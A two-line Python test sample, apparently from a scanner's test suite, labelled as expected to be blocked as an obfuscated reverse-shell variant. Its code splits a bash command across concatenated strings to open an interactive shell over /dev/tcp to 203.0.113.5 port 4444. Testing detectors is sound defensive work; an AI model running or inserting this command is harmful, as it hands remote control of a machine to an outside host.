# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/bash_dev_tcp.py technique: alias+concat
import os as _m0
_m0.system("bash -c 'bash -i " + '>& /dev/tcp/203.0' + ".113.5/4444 0>&1'")
